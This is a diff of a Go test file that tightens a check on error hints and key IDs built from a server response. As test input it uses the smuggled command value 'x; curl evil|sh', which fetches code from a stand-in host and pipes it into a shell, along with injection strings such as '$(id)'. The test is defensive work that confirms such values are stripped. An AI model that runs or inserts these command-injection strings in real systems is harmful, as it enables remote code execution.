@@ -23,7 +23,7 @@ func createdBy(t *testing.T, name string, status int, answer string) (created Cr
 	})
 	var r Redactor
 	r.RegisterPrefix(testPrefix)
-	created, err := w.Create(t.Context(), Draft{Name: name}, Before{}, func(raw Secret) error { RegisterTexts(&r, raw); return nil })
+	created, err := w.Create(t.Context(), Draft{Name: name}, Before{}, func(_ int, raw Secret) error { RegisterTexts(&r, raw); return nil })
 	if err == nil {
 		return created, nil, ""
 	}
@@ -88,7 +88,7 @@ func TestNoHintHoldsMoreThanAnID(t *testing.T) {
 	t.Parallel()
 	const id = "x; curl evil|sh"
 	_, e, _ := createdBy(t, "ci", 201, `{"id":"`+id+`"}`)
-	if e == nil || e.KeyID != id || !strings.Contains(e.What, id) || strings.Contains(e.Hint, "curl") {
+	if e == nil || e.KeyID != "" || strings.Contains(e.What+e.Hint, "curl") {
 		t.Errorf("got %v, %s", e, e.Hint)
 	}
 	for hinted, want := range map[string]bool{"k1": true, id: false, "": false, "a b": false, "$(id)": false, "`id`": false, "a\nb": false} {
